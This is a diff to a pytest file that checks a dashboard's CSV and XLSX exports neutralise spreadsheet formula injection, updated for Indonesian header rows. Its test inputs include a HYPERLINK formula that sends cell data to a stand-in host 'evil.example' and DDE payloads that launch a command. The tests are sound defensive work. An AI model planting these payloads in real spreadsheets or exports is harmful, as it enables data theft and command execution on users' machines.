@@ -9,7 +9,7 @@ import io
 import openpyxl
 import pytest
 
-from sync.office.dashboard import exports
+from sync.office.dashboard import export_columns, exports
 
 HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"klik")', "+1+cmd|' /C calc'!A0", "-2+3",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
@@ -24,17 +24,18 @@ def row(value: str) -> dict:
 
 @pytest.mark.parametrize("value", HOSTILE)
 def test_csv_cells_are_text_not_formulas(value):
-    got = list(csv.DictReader(io.StringIO(exports.to_csv([row(value)]).decode("utf-8-sig"))))[0]
+    table = list(csv.reader(io.StringIO(exports.to_csv([row(value)]).decode("utf-8-sig"))))
+    got = dict(zip(table[1], table[2]))                 # row 1: Indonesian headers, row 2: column codes
     assert got["village"] == "'" + value and got["form_id"] == "'" + value
     assert got["lat"] == "-1.25"                        # numbers are numbers, not neutralised
-    assert got["category"] == "rekrutmen"
+    assert got["category"].startswith("Ajakan kerja")      # shown as its label
 
 
 @pytest.mark.parametrize("value", HOSTILE)
 def test_xlsx_cells_are_strings_not_formulas(value):
     ws = openpyxl.load_workbook(io.BytesIO(exports.to_xlsx([row(value)]))).active
-    header = [c.value for c in ws[1]]
-    cells = dict(zip(header, ws[2]))
+    _, codes, _ = export_columns.table([row(value)])     # row 1 holds the Indonesian headers
+    cells = dict(zip(codes, ws[2]))
     # XML normalises a bare CR to LF when the file is read back; the text is otherwise intact
     assert cells["village"].value in (value, value.replace("\r", "\n")) and cells["village"].data_type == "s"
     assert cells["form_id"].data_type == "s"
